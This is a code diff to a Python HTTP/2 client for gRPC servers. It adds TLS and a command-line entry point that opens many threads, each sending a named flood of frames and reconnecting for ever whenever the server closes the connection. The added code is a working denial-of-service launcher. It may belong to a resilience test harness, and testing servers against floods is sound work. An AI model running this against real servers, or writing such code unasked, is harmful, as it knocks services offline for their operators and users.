@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import socket
+import ssl
 import struct
+import sys
+import threading
 import time
 from collections.abc import Callable, Iterator
 from contextlib import suppress
@@ -57,9 +60,11 @@ class Peer:
     It acknowledges the server's settings and opens its window: otherwise gRPC takes only a hundred calls from it.
     """
 
-    def __init__(self, address: str, settings: bytes = b"") -> None:
+    def __init__(self, address: str, settings: bytes = b"", tls: ssl.SSLContext | None = None) -> None:
         host, _, port = address.rpartition(":")
         self.socket = socket.create_connection((host, int(port)), timeout=5)
+        if tls is not None:
+            self.socket = tls.wrap_socket(self.socket, server_hostname=host)
         self.sent = 0
         self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
         self.socket.recv(1 << 16)  # the server's settings: acknowledged earlier, they are an error
@@ -78,7 +83,7 @@ class Peer:
 
     def _drain(self) -> None:
         self.socket.setblocking(False)
-        with suppress(BlockingIOError):
+        with suppress(BlockingIOError, ssl.SSLWantReadError):
             while self.socket.recv(1 << 16):
                 pass
         self.socket.settimeout(0.5)
@@ -196,3 +201,28 @@ FLOODS: Final[dict[str, tuple[Callable[[], Iterator[bytes]], int]]] = {
 def _message(content: bytes) -> bytes:
     """A message with the length prefix of gRPC."""
     return b"\0" + struct.pack(">I", len(content)) + content
+
+
+def keep_flooding(name: str, address: str, tls: ssl.SSLContext | None) -> None:
+    """Flood for ever, over another connection whenever the server closes one."""
+    make, most = FLOODS[name]
+    while True:
+        with suppress(OSError):
+            peer = Peer(address, tls=tls)
+            peer.flood(make(), most, reads=True)
+            peer.close()
+
+
+def main(name: str, address: str, connections: str, authority: str = "") -> None:
+    """Flood a server over several connections until this process is killed. Prints a line when it begins."""
+    tls = ssl.create_default_context(cafile=authority) if authority else None
+    if tls is not None:
+        tls.set_alpn_protocols(["h2"])
+    for _ in range(int(connections)):
+        threading.Thread(target=keep_flooding, args=(name, address, tls)).start()
+    sys.stdout.write(f"{name}\n")
+    sys.stdout.flush()
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
